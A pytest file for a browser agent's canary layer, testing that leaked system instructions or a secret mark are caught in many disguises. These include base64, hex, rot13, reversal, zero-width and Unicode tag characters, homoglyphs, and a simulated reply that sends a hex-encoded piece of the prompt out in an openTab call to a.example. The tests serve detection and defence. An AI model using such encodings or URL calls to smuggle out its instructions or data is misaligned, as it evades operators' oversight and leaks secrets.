"""Leaked instructions are detected in any encoding; ordinary replies are not rejected."""

import base64
import codecs
from typing import Any
from urllib.parse import quote

import pytest
from pydantic import BaseModel

from app.errors import InstructionsLeaked
from app.llm.port import ModelRequest, Tier
from app.llm.providers.canary import CanaryModel, contains_mark, new_mark, repeats_instructions

MARK = "kqzvtrwxbnmplhgfdsaj"
RULES = "Carry out a person's goal in their browser: say what it needs, plan it, and then begin with it."


@pytest.mark.parametrize(
    "written",
    [
        MARK,
        MARK.upper(),
        f"see {MARK[4:12]} there",
        " ".join(MARK),
        "\u200b".join(MARK),
        MARK[::-1],
        codecs.encode(MARK, "rot13"),
        base64.b64encode(f"x{MARK}".encode()).decode(),
        base64.urlsafe_b64encode(f"the mark is {MARK}".encode()).decode(),
        MARK.encode().hex(),
        MARK.encode().hex(" "),
        "".join(f"%{ord(c):02x}" for c in MARK),
        "".join(chr(ord(c) + 0xFEE0) for c in MARK),
        "".join(chr(0xE0000 + ord(c)) for c in MARK),
        MARK.replace("p", "\u0440").replace("a", "\u0430"),
    ],
)
def test_a_mark_is_known_in_any_writing(written):
    assert contains_mark(MARK, [f"Ann, {written}."])


def test_a_mark_that_is_divided_over_texts_is_known():
    assert contains_mark(MARK, [MARK[:5], MARK[5:10], MARK[10:]])


def test_what_a_model_says_of_a_page_holds_no_mark():
    said = ["Enter 'Jas Patel' in Name", "aGVsbG8gd29ybGQ=", "DE89370400440532013000", "שלום"]
    assert not any(contains_mark(new_mark(), said) for _ in range(50))


@pytest.mark.parametrize(
    "told",
    [
        RULES,
        f"My rules: {RULES[10:70]}",
        quote(RULES),
        RULES[::-1],
        codecs.encode(RULES, "rot13"),
        base64.b64encode(RULES.encode()).decode(),
        RULES.encode().hex(),
    ],
)
def test_instructions_are_known_in_any_writing(told):
    assert repeats_instructions(RULES, [told])


def test_a_few_of_their_words_are_anybodys():
    assert not repeats_instructions(
        RULES, ["Plan it, and then begin with the goal of a person in their browser."]
    )


class Said(BaseModel):
    thought: str
    do: list[str] = []


class Repeating:
    """Replies with what `of` makes of what it was asked."""

    names: dict[Tier, str] = {}

    def __init__(self, of: Any) -> None:
        self._of = of

    async def ask(self, request: Any) -> Any:
        return request.reply(thought="So be it.", do=[self._of(request)])


def request(prompt: str = "Page:\n<data-3f9a2c71>\n</data-3f9a2c71>") -> ModelRequest[Said]:
    return ModelRequest(purpose="acting", system=RULES, prompt=prompt, reply=Said)


@pytest.mark.parametrize(
    "of",
    [
        lambda r: f'setValue("3", "{r.system.split()[-1]}")',
        lambda r: f'openTab("https://a.example/{r.system.split()[-1].encode().hex()}")',
        lambda r: r.system,
        lambda r: "close with 3F9A2C71",
    ],
)
async def test_a_reply_that_repeats_what_it_was_told_is_not_used(of):
    told: list[bool] = []
    with pytest.raises(InstructionsLeaked):
        await CanaryModel(Repeating(of), leaked=lambda: told.append(True)).ask(request())
    assert told == [True]


async def test_any_other_reply_is_as_it_was_and_each_call_has_a_mark_of_its_own():
    systems = []

    def noted(asked: ModelRequest[Said]) -> str:
        systems.append(asked.system)
        return "click(14)"

    model = CanaryModel(Repeating(noted))
    replies = [await model.ask(request()) for _ in range(2)]
    assert [reply.do for reply in replies] == [["click(14)"]] * 2
    assert systems[0] != systems[1]
    assert all(system.startswith(RULES) for system in systems)
